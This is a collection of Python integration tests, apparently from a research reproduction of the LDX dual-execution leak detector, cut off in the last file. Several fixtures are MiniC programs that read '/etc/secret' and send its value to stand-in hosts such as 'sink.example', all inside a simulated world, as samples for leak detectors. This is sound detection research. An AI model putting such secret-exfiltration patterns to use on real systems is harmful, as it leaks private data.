"""Integration tests for the multihost executor.

The contract under test: reports are byte-identical whether cells run
in process, on a local pool, or on worker nodes — including when a
node dies mid-sweep and its in-flight cells are re-dispatched.  Nodes
here are localhost subprocesses, the same machinery CI exercises with
``--nodes localhost,localhost``.
"""

import json
import select
import subprocess
import time

import pytest

from repro.eval.executors import (
    ExecutorError,
    LocalPoolExecutor,
    MultiHostExecutor,
)
from repro.eval.parallel import plan_chaos_cells, run_chaos_parallel
from repro.eval.robustness import ChaosRow, render_chaos, run_chaos

NAMES = ["gzip", "bzip2"]
SEEDS = 4
RATE = 0.1
DEADLINE = 25_000.0


@pytest.fixture(scope="module")
def serial_text():
    rows = run_chaos(names=NAMES, seeds=SEEDS)
    return render_chaos(rows, SEEDS, RATE)


def _render(rows):
    return render_chaos(rows, SEEDS, RATE)


def test_local_pool_executor_matches_serial(serial_text):
    with LocalPoolExecutor(jobs=2) as executor:
        rows = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
    assert _render(rows) == serial_text


def test_multihost_two_nodes_matches_serial(serial_text):
    with MultiHostExecutor(["localhost", "localhost"]) as executor:
        rows = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
    assert _render(rows) == serial_text


def test_multihost_executor_serves_multiple_rounds(serial_text):
    """One executor (and its warm nodes) runs round after round, the
    way a CLI invocation reuses it across fan-outs."""
    with MultiHostExecutor(["localhost"]) as executor:
        first = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
        second = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
    assert _render(first) == serial_text
    assert _render(second) == serial_text


def test_node_heartbeats_before_hello_is_handled():
    """The node's heartbeat thread starts with the process, not after
    warm-up: the parent must see liveness while a cold cache warms,
    which can take far longer than the heartbeat timeout."""
    from repro.eval.executors.multihost import _node_command, _node_env

    proc = subprocess.Popen(
        _node_command("localhost"),
        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        env=_node_env(), text=True,
    )
    try:
        # No hello is ever sent, so nothing configures or warms the
        # node — the first frame can only come from the heartbeat
        # thread (2s interval; 20s allows for a slow interpreter start).
        readable, _, _ = select.select([proc.stdout], [], [], 20.0)
        assert readable, "node sent no frame within 20s of starting"
        frame = json.loads(proc.stdout.readline())
        assert frame["op"] == "heartbeat"
    finally:
        proc.kill()
        proc.wait()


def test_idle_executor_between_rounds_keeps_nodes_alive(serial_text):
    """Liveness is recorded as heartbeats arrive on the reader thread,
    not when stream() consumes them — so an executor idling between
    rounds longer than heartbeat_timeout (a lifecycle the contract
    explicitly supports) must not declare its healthy nodes dead."""
    with MultiHostExecutor(["localhost"], heartbeat_timeout=4.0) as executor:
        first = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
        time.sleep(6.0)  # > heartbeat_timeout with no stream() pumping
        node = executor._nodes[0]
        second = run_chaos(names=NAMES, seeds=SEEDS, executor=executor)
        assert node.alive
    assert _render(first) == serial_text
    assert _render(second) == serial_text


def test_kill_one_node_mid_sweep_redispatches(serial_text):
    """Killing a node mid-round loses no cells: its in-flight batches
    re-dispatch to the survivor and the merged report is still
    byte-identical to the serial sweep."""
    cells = plan_chaos_cells(NAMES, SEEDS, RATE, DEADLINE, seed_chunk=1)
    executor = MultiHostExecutor(
        ["localhost", "localhost"], batch_size=1, window=1
    )
    results = [None] * len(cells)
    try:
        executor.submit(cells)
        victim_killed = False
        for index, result in executor.stream():
            results[index] = result
            if not victim_killed:
                # First result is back: the round is mid-flight.  Kill
                # node 0 the hard way (no shutdown handshake).
                victim = executor._nodes[0]
                if victim.proc is not None:
                    victim.proc.kill()
                victim_killed = True
    finally:
        executor.close()

    assert victim_killed
    assert all(result is not None for result in results)

    rows = []
    by_name = {}
    for (kind, payload), chunk_row in zip(cells, results):
        assert isinstance(chunk_row, ChaosRow)
        name = payload[0]
        if name not in by_name:
            by_name[name] = chunk_row
            rows.append(chunk_row)
        else:
            by_name[name].merge(chunk_row)
    assert _render(rows) == serial_text


def test_all_nodes_dead_raises_executor_error():
    cells = plan_chaos_cells(NAMES, SEEDS, RATE, DEADLINE, seed_chunk=1)
    executor = MultiHostExecutor(["localhost"], batch_size=1)
    try:
        executor.submit(cells)
        with pytest.raises(ExecutorError, match="all worker nodes died"):
            for _index, _result in executor.stream():
                executor._nodes[0].proc.kill()
    finally:
        executor.close()


def test_multihost_store_path_matches_pool(tmp_path, serial_text):
    """run_chaos_parallel with a results store persists each cell as it
    streams back from the nodes; a warm re-run executes nothing."""
    from repro.results import ResultsStore

    store = ResultsStore(str(tmp_path / "cells.sqlite"))
    try:
        with MultiHostExecutor(["localhost", "localhost"]) as executor:
            rows = run_chaos_parallel(
                names=NAMES, seeds=SEEDS, rate=RATE,
                watchdog_deadline=DEADLINE, store=store, executor=executor,
            )
        assert _render(rows) == serial_text
        # Warm re-run: every cell served from the store, serial backend.
        warm = run_chaos_parallel(
            names=NAMES, seeds=SEEDS, rate=RATE,
            watchdog_deadline=DEADLINE, jobs=1, store=store,
        )
        assert _render(warm) == serial_text
        assert store.latest_run("chaos")["executed"] == 0
    finally:
        store.close()
