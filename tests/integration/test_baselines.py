"""Integration tests for the baselines against LDX's ground truth."""

import pytest

from repro.baselines.dualex import run_dualex
from repro.baselines.native import run_native
from repro.baselines.taint import run_taint
from repro.baselines.tightlip import run_tightlip
from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def make_world(secret="7"):
    world = World(seed=1)
    world.fs.add_file("/etc/secret", secret)
    world.network.register("sink.example", 80, lambda req: "")
    return world


CONFIG = LdxConfig(
    sources=SourceSpec(file_paths={"/etc/secret"}),
    sinks=SinkSpec.network_out(),
)

DATA_LEAK = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 10));
  close(fd);
  var sock = socket();
  connect(sock, "sink.example", 80);
  send(sock, x * 3);
}
"""

CONTROL_LEAK = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 10));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var sock = socket();
  connect(sock, "sink.example", 80);
  send(sock, y);
}
"""

LIBRARY_LEAK = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = read(fd, 10);
  close(fd);
  var parts = str_split(x + ",pad", ",");
  var sock = socket();
  connect(sock, "sink.example", 80);
  send(sock, parts[0]);
}
"""

NO_LEAK = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = read(fd, 10);
  close(fd);
  var sock = socket();
  connect(sock, "sink.example", 80);
  send(sock, "constant");
}
"""


def module_of(source):
    return compile_source(source)


# -- taint baselines ------------------------------------------------------------


def test_taintgrind_detects_data_dependence_leak():
    result = run_taint(module_of(DATA_LEAK), make_world(), CONFIG, tool="taintgrind")
    assert result.tainted_sinks == 1
    assert result.sinks_total == 1


def test_libdft_detects_data_dependence_leak():
    result = run_taint(module_of(DATA_LEAK), make_world(), CONFIG, tool="libdft")
    assert result.tainted_sinks == 1


def test_taint_tools_miss_control_dependence_leak():
    # The paper's central claim: dependence-based tainting misses
    # control-dependence-induced strong causality; LDX catches it.
    for tool in ("taintgrind", "libdft"):
        result = run_taint(module_of(CONTROL_LEAK), make_world(), CONFIG, tool=tool)
        assert result.tainted_sinks == 0, tool
    ldx = run_dual(
        instrument_module(module_of(CONTROL_LEAK)), make_world(), CONFIG
    )
    assert ldx.report.causality_detected


def test_libdft_misses_library_propagation_but_taintgrind_does_not():
    # Table 3: TaintGrind's tainted sinks are a superset of LIBDFT's
    # because LIBDFT does not model some library calls.
    libdft = run_taint(module_of(LIBRARY_LEAK), make_world(), CONFIG, tool="libdft")
    taintgrind = run_taint(
        module_of(LIBRARY_LEAK), make_world(), CONFIG, tool="taintgrind"
    )
    assert libdft.tainted_sinks == 0
    assert taintgrind.tainted_sinks == 1


def test_taint_clean_program_reports_nothing():
    result = run_taint(module_of(NO_LEAK), make_world(), CONFIG, tool="taintgrind")
    assert result.tainted_sinks == 0
    assert result.sinks_total == 1


def test_taint_through_file_roundtrip():
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = read(fd, 10);
      close(fd);
      var w = open("/tmp/stash", "w");
      write(w, x);
      close(w);
      var r = open("/tmp/stash", "r");
      var y = read(r, 10);
      close(r);
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, y);
    }
    """
    world = make_world()
    world.fs.mkdir("/tmp")
    result = run_taint(module_of(source), world, CONFIG, tool="taintgrind")
    assert result.tainted_sinks == 1


def test_taint_slowdown_is_several_x():
    # A compute-heavy program (like SPEC): taint's per-instruction cost
    # dominates, giving the several-x slowdown the paper measured.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var total = 0;
      for (var i = 0; i < 300; i = i + 1) { total = total + i * x; }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, total);
    }
    """
    native = run_native(module_of(source), make_world())
    libdft = run_taint(module_of(source), make_world(), CONFIG, tool="libdft")
    taintgrind = run_taint(module_of(source), make_world(), CONFIG, tool="taintgrind")
    assert libdft.time > native.time * 3
    assert taintgrind.time > libdft.time


# -- TightLip ---------------------------------------------------------------------


def test_tightlip_detects_real_output_leak():
    result = run_tightlip(module_of(DATA_LEAK), make_world(), CONFIG)
    assert result.leak_reported


def test_tightlip_quiet_on_identical_traces():
    result = run_tightlip(module_of(NO_LEAK), make_world(), CONFIG)
    assert not result.leak_reported


def test_tightlip_false_positive_on_benign_path_difference():
    # The mutation changes which files get opened but not the sink —
    # LDX tolerates this (realigning via counters); TightLip reports a
    # leak and terminates.  This is Table 2's key contrast.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      if (x == 7) {
        var a = open("/tmp/a", "w");
        write(a, "cache");
        close(a);
      } else {
        var b1 = open("/tmp/b1", "w");
        close(b1);
        var b2 = open("/tmp/b2", "w");
        close(b2);
        var b3 = open("/tmp/b3", "w");
        close(b3);
        var b4 = open("/tmp/b4", "w");
        write(b4, "spill");
        close(b4);
      }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, "summary");
    }
    """
    world = make_world()
    world.fs.mkdir("/tmp")
    tightlip = run_tightlip(module_of(source), world, CONFIG)
    assert tightlip.leak_reported
    assert tightlip.terminated_early
    ldx = run_dual(instrument_module(module_of(source)), make_world(), CONFIG)
    # LDX: path difference tolerated, sink identical -> no causality.
    world2 = make_world()
    world2.fs.mkdir("/tmp")
    ldx = run_dual(instrument_module(module_of(source)), world2, CONFIG)
    assert not ldx.report.causality_detected
    assert ldx.report.syscall_diffs > 0


# -- DualEx --------------------------------------------------------------------------


def test_dualex_detects_control_leak_like_ldx():
    result = run_dualex(module_of(CONTROL_LEAK), make_world(), CONFIG)
    assert result.causality_detected


def test_dualex_quiet_on_clean_program():
    result = run_dualex(module_of(NO_LEAK), make_world(), CONFIG)
    assert not result.causality_detected
    assert result.sinks_total == 1


def test_dualex_is_orders_of_magnitude_slower_than_ldx():
    module = module_of(CONTROL_LEAK)
    native = run_native(module, make_world())
    dualex = run_dualex(module, make_world(), CONFIG)
    ldx = run_dual(instrument_module(module), make_world(), CONFIG)
    ldx_overhead = ldx.dual_time / native.time
    dualex_overhead = dualex.time / native.time
    assert dualex_overhead > 100
    assert dualex_overhead > ldx_overhead * 50


def test_dualex_aligns_loop_iterations_by_index():
    # Iteration counts in the execution index distinguish the same
    # static syscall across iterations.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var n = parse_int(read(fd, 10));
      close(fd);
      var sock = socket();
      connect(sock, "sink.example", 80);
      for (var i = 0; i < n; i = i + 1) {
        send(sock, "tick" + i);
      }
    }
    """
    result = run_dualex(module_of(source), make_world("3"), CONFIG)
    # Mutation 3 -> 4: one extra slave-only sink detection.
    assert result.causality_detected
    kinds = [kind for kind, _ in result.detections]
    assert "sink-only-in-slave" in kinds
