"""The paper's worked examples as end-to-end tests.

* Fig. 2/3 — the employee-raise program: title is the secret; mutating
  STAFF->MANAGER flips the branch, produces different syscalls, and the
  raise value leaks the title through control dependence.
* Fig. 4/5 — nested loops whose bounds come from the input; master and
  slave iterate different numbers of times and must stay aligned.
"""

import pytest

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

PAYROLL = """
fn SRaise(file) {
  var f = open(file, "r");
  var rate = parse_int(read(f, 8));
  close(f);
  return rate;
}

fn MRaise(age, salary) {
  var r = SRaise("/etc/mcontract");
  if (age > 5 and salary > 100) {
    var s = open("/var/seniors.txt", "a");
    write(s, "senior manager\\n");
    close(s);
  }
  return r + 5;
}

fn main() {
  var name = read_line(0);
  var title = str_strip(read_line(0));
  var raise = 0;
  if (title == "STAFF") {
    raise = SRaise("/etc/contract");
  } else {
    raise = MRaise(7, 150);
    var d = open("/etc/dept", "r");
    var dept = read(d, 8);
    close(d);
    raise = raise + len(dept);
  }
  var sock = socket();
  connect(sock, "hq.example", 443);
  send(sock, name);
  send(sock, raise);
}
"""


def payroll_world(title="STAFF"):
    world = World(seed=3)
    world.stdin = f"alice\n{title}\n"
    world.fs.add_file("/etc/contract", "3")
    world.fs.add_file("/etc/mcontract", "9")
    world.fs.add_file("/etc/dept", "sales")
    world.fs.add_file("/var/seniors.txt", "")
    world.network.register("hq.example", 443, lambda req: "")
    return world


def title_mutator(value):
    """The paper's example mutation: STAFF -> MANAGER."""
    if isinstance(value, str) and "STAFF" in value:
        return value.replace("STAFF", "MANAGER")
    return value


def run_payroll(title="STAFF"):
    instrumented = instrument_module(compile_source(PAYROLL))
    config = LdxConfig(
        sources=SourceSpec(stdin=True, mutators={"stdin": title_mutator}),
        sinks=SinkSpec.network_out(),
    )
    return run_dual(instrumented, payroll_world(title), config)


def test_payroll_leak_detected():
    result = run_payroll()
    assert result.report.causality_detected
    # The second send (the raise) differs; the first (the name) may
    # align.  At least one sink detection must be an argument diff or a
    # missing sink.
    assert result.report.sinks_total >= 1


def test_payroll_divergent_syscalls_tolerated():
    # The slave runs MRaise (3 syscalls) + dept read while the master
    # runs SRaise (2 syscalls): misaligned syscalls execute separately.
    result = run_payroll()
    assert result.report.syscall_diffs > 0
    # Executions still terminated normally (no stall-breaking needed).
    assert result.report.stall_breaks == 0
    assert result.master.finished and result.slave.finished


def test_payroll_name_not_flagged_when_title_is_not_mutated():
    # Mutating nothing -> perfectly coupled run, no causality at all.
    instrumented = instrument_module(compile_source(PAYROLL))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec.network_out())
    result = run_dual(instrumented, payroll_world(), config)
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0


LOOPS = """
fn main() {
  var f = open("/in/bounds.txt", "r");
  var n = parse_int(str_strip(read_line(f)));
  var m = parse_int(str_strip(read_line(f)));
  close(f);
  var log = open("/out/log.txt", "w");
  for (var i = 0; i < n; i = i + 1) {
    for (var j = 0; j < m; j = j + 1) {
      var r = open("/in/data.txt", "r");
      read(r, 4);
      close(r);
    }
    write(log, "row " + i + "\\n");
  }
  close(log);
  var sock = socket();
  connect(sock, "collect.example", 80);
  send(sock, "n=" + n);
}
"""


def loops_world(bounds="1\n2\n"):
    world = World(seed=5)
    world.fs.add_file("/in/bounds.txt", bounds)
    world.fs.add_file("/in/data.txt", "abcdef")
    world.fs.mkdir("/out")
    world.network.register("collect.example", 80, lambda req: "")
    return world


def bounds_mutator(value):
    """Swap the loop bounds (paper Fig. 5: master n=1,m=2; slave n=2,m=1)."""
    if isinstance(value, str) and value.strip() == "1":
        return "2\n"
    if isinstance(value, str) and value.strip() == "2":
        return "1\n"
    return value


def test_loop_alignment_with_different_iteration_counts():
    instrumented = instrument_module(compile_source(LOOPS))
    config = LdxConfig(
        sources=SourceSpec(
            file_paths={"/in/bounds.txt"},
            mutators={"file:/in/bounds.txt": bounds_mutator},
        ),
        sinks=SinkSpec.network_out(),
    )
    result = run_dual(instrumented, loops_world(), config)
    # n differs (1 vs 2), so the final send leaks the bound.
    assert result.report.causality_detected
    assert any(d.kind == "sink-args-differ" for d in result.report.detections)
    # Both executions ran to completion despite different loop trip
    # counts — the Fig. 5 scenario.
    assert result.master.finished and result.slave.finished
    assert result.report.stall_breaks == 0


def test_loop_alignment_identical_bounds_fully_coupled():
    instrumented = instrument_module(compile_source(LOOPS))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec.network_out())
    result = run_dual(instrumented, loops_world("2\n3\n"), config)
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0


def test_loop_heavy_program_counter_stays_bounded():
    source = """
    fn main() {
      var i = 0;
      while (i < 25) {
        print(i);
        i = i + 1;
      }
      print("end");
    }
    """
    instrumented = instrument_module(compile_source(source))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec(syscall_names=()))
    result = run_dual(instrumented, World(seed=1), config)
    # The counter resets every iteration: its max sample must not grow
    # with the trip count (25 iterations, counter <= fcnt).
    plan = instrumented.plan.functions["main"]
    assert result.master.stats.max_counter <= plan.fcnt
    assert result.master.stats.barriers == 25
