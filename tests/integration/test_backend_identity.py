"""Backend invariance over the full workload registry, plus the CLI
surface of the threaded backend (--interp-backend, --profile-interp,
``repro profile``).

This is the repository-level statement of the tentpole contract: the
threaded-code backend changes how fast MiniC executes, never what it
computes.  Every workload is dual-executed under both backends with
its leak variant (the configuration that exercises mutation, coupling
and detection) and every observable compared exactly.
"""

import json

import pytest

from repro.baselines.native import run_native
from repro.cli import main
from repro.core import run_dual
from repro.workloads import ALL_WORKLOADS, get_workload

WORKLOAD_NAMES = [w.name for w in ALL_WORKLOADS]


def _dual_fingerprint(result):
    return (
        result.report.summary(),
        result.report.causality_detected,
        result.report.syscall_diffs,
        result.report.stall_breaks,
        sorted(result.report.tainted_resources),
        result.master_stdout,
        result.slave_stdout,
        result.master.time,
        result.slave.time,
        result.master.stats.instructions,
        result.slave.stats.instructions,
        result.master.stats.edge_actions,
        result.slave.stats.edge_actions,
        result.master.stats.counter_samples,
        result.slave.stats.counter_samples,
    )


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_dual_identical_across_backends(name):
    workload = get_workload(name)
    fingerprints = []
    for backend in ("switch", "threaded"):
        config = workload.leak_variant()
        config.interp_backend = backend
        result = run_dual(workload.instrumented, workload.build_world(1), config)
        fingerprints.append(_dual_fingerprint(result))
    assert fingerprints[0] == fingerprints[1]


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_native_identical_across_backends(name):
    workload = get_workload(name)
    runs = []
    for backend in ("switch", "threaded"):
        result = run_native(
            workload.module, workload.build_world(1), backend=backend
        )
        runs.append(
            (result.stdout, result.time, result.stats.instructions,
             result.sink_values())
        )
    assert runs[0] == runs[1]


# -- CLI surface ----------------------------------------------------------------


@pytest.fixture(autouse=True)
def _restore_default_backend():
    # CLI handlers set the process-wide default; don't leak it.
    from repro.interp import get_default_backend, set_default_backend

    original = get_default_backend()
    yield
    set_default_backend(original)


@pytest.fixture()
def program(tmp_path):
    path = tmp_path / "prog.mc"
    path.write_text(
        "fn main() {\n"
        "  var i = 0;\n"
        "  while (i < 10) { print(i); i = i + 1; }\n"
        "}\n"
    )
    return str(path)


def test_cli_run_accepts_both_backends(program, capsys):
    outputs = []
    for backend in ("switch", "threaded"):
        assert main(["run", program, "--interp-backend", backend]) == 0
        outputs.append(capsys.readouterr().out)
    assert outputs[0] == outputs[1] == "0123456789"


def test_cli_run_rejects_unknown_backend(program):
    with pytest.raises(SystemExit):
        main(["run", program, "--interp-backend", "jit"])


def test_cli_run_profile_report_goes_to_stderr(program, capsys):
    assert main(["run", program, "--profile-interp", "--top", "3"]) == 0
    captured = capsys.readouterr()
    assert captured.out == "0123456789"
    assert "opcode" in captured.err
    assert "instructions" in captured.err


def test_cli_profile_command_writes_json(tmp_path, capsys):
    artifact = tmp_path / "profile.json"
    assert main(["profile", "bzip2", "--json", str(artifact), "--top", "5"]) == 0
    out = capsys.readouterr().out
    assert "workload: bzip2" in out
    assert "native (instrumented)" in out
    assert "master" in out and "slave" in out
    payload = json.loads(artifact.read_text())
    assert payload["schema"] == "ldx-profile-v2"
    assert payload["workload"] == "bzip2"
    assert set(payload["executions"]) == {
        "native (instrumented)", "master", "slave"
    }
    for section in payload["executions"].values():
        assert section["instructions"] == sum(
            entry["count"] for entry in section["opcodes"].values()
        )


def test_cli_profile_identical_across_backends(tmp_path):
    payloads = []
    for backend in ("switch", "threaded"):
        artifact = tmp_path / f"{backend}.json"
        assert main(
            ["profile", "mcf", "--json", str(artifact), "--interp-backend", backend]
        ) == 0
        payload = json.loads(artifact.read_text())
        payload.pop("backend")
        payloads.append(payload)
    assert payloads[0] == payloads[1]
