"""Integration tests for the parallel evaluation fan-out.

The contract under test: for any job count the reassembled report is
byte-identical to the serial path — cells are independent, workers
rebuild their worlds from the cell spec, and reassembly happens in
submission order.
"""

import pytest

from repro.eval.parallel import (
    assemble_report,
    fan_out,
    plan_eval_cells,
    run_chaos_parallel,
)
from repro.eval.robustness import render_chaos, run_chaos
from repro.eval.runner import run_all

TABLE4_RUNS = 3


@pytest.fixture(scope="module")
def serial_report():
    return run_all(table4_runs=TABLE4_RUNS)


def test_run_all_jobs4_is_byte_identical_to_serial(serial_report):
    parallel_report = run_all(table4_runs=TABLE4_RUNS, jobs=4)
    assert parallel_report == serial_report


def test_cell_plan_covers_every_section():
    cells = plan_eval_cells(table4_runs=10, table4_chunk=4)
    kinds = {kind for kind, _payload in cells}
    assert kinds == {"table1", "figure6", "table2", "table3", "table4", "mutation"}
    # 10 runs in chunks of 4 -> 3 chunks per concurrent workload.
    table4 = [payload for kind, payload in cells if kind == "table4"]
    per_name = {}
    for name, start, stop in table4:
        per_name.setdefault(name, []).append((start, stop))
    for spans in per_name.values():
        assert spans == [(0, 4), (4, 8), (8, 10)]


def test_serial_fan_out_matches_pool(serial_report):
    """jobs=1 exercises the same cell decomposition without a pool."""
    cells = plan_eval_cells(TABLE4_RUNS)
    results = fan_out(cells, jobs=1)
    assert assemble_report(cells, results, TABLE4_RUNS) == serial_report


def test_chaos_parallel_rows_match_serial():
    names = ["gzip", "apache"]
    serial_rows = run_chaos(names=names, seeds=4)
    parallel_rows = run_chaos_parallel(names=names, seeds=4, jobs=2, seed_chunk=2)
    assert render_chaos(parallel_rows, 4, 0.1) == render_chaos(serial_rows, 4, 0.1)
    for serial_row, parallel_row in zip(serial_rows, parallel_rows):
        assert serial_row.violations == parallel_row.violations
        assert serial_row.runs == parallel_row.runs
        assert serial_row.faults_injected == parallel_row.faults_injected


def test_chaos_jobs_flag_routes_through_parallel():
    # gzip has no no-leak variant: 2 variants x 3 seeds = 6 runs.
    rows = run_chaos(names=["gzip"], seeds=3, jobs=2)
    assert rows[0].runs == 2 * 3
