"""Tests for the offline filesystem-differencing extension.

The paper's limitations section defers leaks through file metadata to
future work; `DualResult.fs_divergences` implements that comparison
offline, plus content/existence differencing of the two final
filesystem states.
"""

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def dual(source, world, sources):
    return run_dual(
        instrument_module(compile_source(source)),
        world,
        LdxConfig(sources, SinkSpec.network_out()),
    )


def secret_world(value="7"):
    world = World(seed=1)
    world.fs.add_file("/secret", value)
    world.fs.mkdir("/out")
    return world


SECRET = SourceSpec(file_paths={"/secret"})


def test_no_divergence_when_coupled():
    source = """
    fn main() {
      var f = open("/out/log.txt", "w");
      write(f, "same");
      close(f);
    }
    """
    result = dual(source, secret_world(), SourceSpec())
    assert result.fs_divergences(include_metadata=True) == []


def test_content_divergence_found():
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var x = read(fd, 8);
      close(fd);
      var f = open("/out/log.txt", "w");
      write(f, "value=" + x);
      close(f);
    }
    """
    result = dual(source, secret_world(), SECRET)
    divergences = result.fs_divergences()
    assert any(d.kind == "content" and d.path == "/out/log.txt" for d in divergences)


def test_existence_divergence_found():
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var x = parse_int(read(fd, 8));
      close(fd);
      if (x == 7) {
        var f = open("/out/master-only.txt", "w");
        close(f);
      } else {
        var g = open("/out/slave-only.txt", "w");
        close(g);
      }
    }
    """
    result = dual(source, secret_world(), SECRET)
    kinds = {d.kind for d in result.fs_divergences()}
    assert "only-in-master" in kinds
    assert "only-in-slave" in kinds


def test_metadata_covert_channel_detected_only_when_requested():
    # The file *content* is input-independent, but whether it is
    # rewritten (bumping mtime) depends on the secret: the paper's
    # file-metadata covert channel.
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var x = parse_int(read(fd, 8));
      close(fd);
      sleep(100);
      if (x == 7) {
        var f = open("/out/marker.txt", "w");
        write(f, "constant");
        close(f);
      }
    }
    """
    world = secret_world()
    world.fs.add_file("/out/marker.txt", "constant")
    result = dual(source, world, SECRET)
    # Content differencing alone misses it...
    assert all(d.kind != "content" for d in result.fs_divergences())
    # ...metadata differencing catches the covert channel.
    metadata = [
        d
        for d in result.fs_divergences(include_metadata=True)
        if d.kind == "metadata"
    ]
    assert metadata and metadata[0].path == "/out/marker.txt"
