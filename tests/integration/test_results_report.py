"""Integration tests for the results store and ``repro report``.

The contract under test: ``repro eval``/``repro chaos`` against a
store are **incremental** — a warm re-run executes zero unchanged
cells — and every store-backed rendering (warm re-run, ``repro
report``) is byte-identical to the cold run that filled the store.
Torn writes heal to a full (not wrong, not partial) re-execution.
"""

import os

import pytest

from repro.cli import main
from repro.eval.robustness import render_chaos, run_chaos
from repro.eval.runner import run_all
from repro.results import (
    ResultsError,
    ResultsStore,
    chaos_report_from_store,
    eval_report_from_store,
)

TABLE4_RUNS = 2
CHAOS_NAMES = ["gzip", "tnftp"]
CHAOS_SEEDS = 6


@pytest.fixture(scope="module")
def store_path(tmp_path_factory):
    return str(tmp_path_factory.mktemp("results") / "results.sqlite")


@pytest.fixture(scope="module")
def cold_report(store_path):
    return run_all(table4_runs=TABLE4_RUNS, store_path=store_path).report


def test_cold_run_fills_the_store_and_records_the_run(store_path, cold_report):
    store = ResultsStore(store_path)
    run = store.latest_run("eval")
    assert run is not None
    assert run["params"]["table4_runs"] == TABLE4_RUNS
    assert run["planned"] > 0
    assert run["reused"] == 0
    assert store.cell_count() >= run["planned"]
    store.close()


def test_warm_rerun_executes_zero_cells(store_path, cold_report):
    warm = run_all(table4_runs=TABLE4_RUNS, store_path=store_path)
    assert warm.report == cold_report
    store = ResultsStore(store_path)
    run = store.latest_run("eval")
    assert run["executed"] == 0
    assert run["reused"] == run["planned"]
    store.close()


def test_store_backed_report_matches_serial_eval(store_path, cold_report):
    # The store path must not perturb results: byte-identical to a
    # storeless serial run.
    assert run_all(table4_runs=TABLE4_RUNS).report == cold_report


def test_report_verb_is_byte_identical(store_path, cold_report, capsys):
    store = ResultsStore(store_path)
    try:
        assert eval_report_from_store(store) == cold_report
    finally:
        store.close()
    assert main(["report", "--store-path", store_path]) == 0
    assert capsys.readouterr().out == cold_report + "\n"


def test_changed_plan_executes_only_new_cells(store_path, cold_report):
    # One extra Table 4 run adds cells; everything else is reused.
    run_all(table4_runs=TABLE4_RUNS + 1, store_path=store_path)
    store = ResultsStore(store_path)
    run = store.latest_run("eval")
    assert 0 < run["executed"] < run["planned"]
    store.close()


def test_torn_store_heals_and_refills(tmp_path):
    path = str(tmp_path / "results.sqlite")
    first = run_all(table4_runs=TABLE4_RUNS, store_path=path).report
    size = os.path.getsize(path)
    with open(path, "r+b") as handle:
        handle.truncate(size // 3)
    # Reporting from a healed (empty) store is a hard error, not a
    # partial or fabricated report.
    store = ResultsStore(path)
    with pytest.raises(ResultsError):
        eval_report_from_store(store)
    store.close()
    # A re-run simply refills, byte-identically.
    refilled = run_all(table4_runs=TABLE4_RUNS, store_path=path)
    assert refilled.report == first
    store = ResultsStore(path)
    assert store.latest_run("eval")["executed"] == store.latest_run("eval")["planned"]
    store.close()


def test_chaos_incremental_and_reportable(tmp_path):
    path = str(tmp_path / "results.sqlite")
    store = ResultsStore(path)
    cold = render_chaos(
        run_chaos(names=CHAOS_NAMES, seeds=CHAOS_SEEDS, store=store),
        CHAOS_SEEDS, 0.1,
    )
    warm_rows = run_chaos(names=CHAOS_NAMES, seeds=CHAOS_SEEDS, store=store)
    assert render_chaos(warm_rows, CHAOS_SEEDS, 0.1) == cold
    run = store.latest_run("chaos")
    assert run["executed"] == 0 and run["reused"] == run["planned"]
    # Storeless serial sweep agrees byte for byte.
    serial = render_chaos(
        run_chaos(names=CHAOS_NAMES, seeds=CHAOS_SEEDS), CHAOS_SEEDS, 0.1
    )
    assert serial == cold
    assert chaos_report_from_store(store) == cold
    store.close()


def test_report_from_empty_store_is_a_clear_error(tmp_path, capsys):
    path = str(tmp_path / "empty.sqlite")
    assert main(["report", "--store-path", path]) == 2
    err = capsys.readouterr().err
    assert "no eval run recorded" in err
