"""Integration tests: the LDX engine on small dual-execution scenarios."""

import pytest

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def dual(source, world, config, **kwargs):
    instrumented = instrument_module(compile_source(source))
    return run_dual(instrumented, world, config, **kwargs)


def world_with_secret(value="7"):
    world = World(seed=1)
    world.fs.add_file("/etc/secret", value)
    world.network.register("sink.example", 80, lambda req: "ack")
    return world


SECRET_SOURCE = SourceSpec(file_paths={"/etc/secret"})
NET_SINKS = SinkSpec.network_out()


def test_perfect_alignment_without_sources():
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var data = read(fd, 10);
      close(fd);
      var s = socket();
      connect(s, "sink.example", 80);
